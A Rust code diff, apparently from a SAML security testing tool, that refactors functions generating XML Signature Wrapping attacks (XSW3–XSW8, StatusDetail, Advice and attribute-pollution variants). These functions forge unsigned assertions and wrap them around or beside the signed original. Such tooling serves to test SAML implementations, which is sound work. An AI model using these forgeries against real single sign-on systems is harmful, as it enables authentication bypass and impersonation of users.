@@ -61,7 +61,7 @@ pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
     p.need_assertion_sig()?;
     let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
     forged(
-        splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
+        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
         swap,
     )
 }
@@ -74,7 +74,10 @@ pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
     let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
     let at = evil.rfind("</").unwrap_or(evil.len());
     let wrapped = format!("{}{}{}", &evil[..at], doc.outer(p.assertion), &evil[at..]);
-    forged(splice(doc.src, vec![(p.assertion.range(), wrapped)]), swap)
+    forged(
+        p.splice_unsigned_response(vec![(p.assertion.range(), wrapped)]),
+        swap,
+    )
 }
 
 /// XSW5: the Assertion forged in place (new ID, Signature kept); an unsigned copy of the
@@ -89,7 +92,7 @@ pub fn xsw5(f: &Forge) -> Result<Forged, Skip> {
         before_end_tag(doc.src, p.root),
         p.assertion_unsigned(),
     ));
-    forged(splice(doc.src, edits), swap)
+    forged(p.splice_unsigned_response(edits), swap)
 }
 
 /// XSW6: as XSW5, the unsigned original copy inside the forged Assertion's Signature.
@@ -100,7 +103,7 @@ pub fn xsw6(f: &Forge) -> Result<Forged, Skip> {
     let (mut edits, swap) = forge_in_place(&p);
     edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
     edits.push(insert(before_end_tag(doc.src, sig), p.assertion_unsigned()));
-    forged(splice(doc.src, edits), swap)
+    forged(p.splice_unsigned_response(edits), swap)
 }
 
 /// XSW7: an unqualified `Extensions` before the signed Assertion holds a forged copy with the
@@ -112,7 +115,7 @@ pub fn xsw7(f: &Forge) -> Result<Forged, Skip> {
     let (evil, swap) = p.forged_assertion(None)?;
     let wrapper = format!("<Extensions>{evil}</Extensions>");
     forged(
-        splice(doc.src, vec![insert(p.assertion.range().start, wrapper)]),
+        p.splice_unsigned_response(vec![insert(p.assertion.range().start, wrapper)]),
         swap,
     )
 }
@@ -130,7 +133,7 @@ pub fn xsw8(f: &Forge) -> Result<Forged, Skip> {
         p.assertion_unsigned()
     );
     edits.push(insert(before_end_tag(doc.src, sig), object));
-    forged(splice(doc.src, edits), swap)
+    forged(p.splice_unsigned_response(edits), swap)
 }
 
 /// The signed original moved into `samlp:StatusDetail`; the forged, unsigned one in its place.
@@ -147,7 +150,7 @@ pub fn status_detail(f: &Forge) -> Result<Forged, Skip> {
         doc.outer(p.assertion)
     );
     edits.push(insert(before_end_tag(doc.src, status), detail));
-    forged(splice(doc.src, edits), swap)
+    forged(p.splice_unsigned_response(edits), swap)
 }
 
 /// The signed original nested in the `saml:Advice` of a forged, unsigned Assertion.
@@ -166,7 +169,7 @@ pub fn advice(f: &Forge) -> Result<Forged, Skip> {
         doc.outer(p.assertion)
     );
     edits.push(insert(at, advice));
-    forged(splice(doc.src, edits), swap)
+    forged(p.splice_unsigned_response(edits), swap)
 }
 
 /// Two assertions: the signed original first, a forged copy (`…_attack`) after it
@@ -177,7 +180,7 @@ pub fn signed_first(f: &Forge) -> Result<Forged, Skip> {
     p.need_assertion_sig()?;
     let (evil, swap) = p.forged_assertion_with_id(&format!("{}_attack", p.assertion_id()))?;
     forged(
-        splice(doc.src, vec![insert(p.assertion.range().end, evil)]),
+        p.splice_unsigned_response(vec![insert(p.assertion.range().end, evil)]),
         swap,
     )
 }
@@ -190,7 +193,7 @@ pub fn forged_first_same_id(f: &Forge) -> Result<Forged, Skip> {
     p.need_assertion_sig()?;
     let (evil, swap) = p.forged_assertion(None)?;
     forged(
-        splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
+        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
         swap,
     )
 }
@@ -247,7 +250,7 @@ pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
     );
     let (polluted, swap) = p.forged_assertion(Some(polluted_id))?;
     forged(
-        splice(doc.src, vec![insert(p.assertion.range().start, polluted)]),
+        p.splice_unsigned_response(vec![insert(p.assertion.range().start, polluted)]),
         swap,
     )
 }
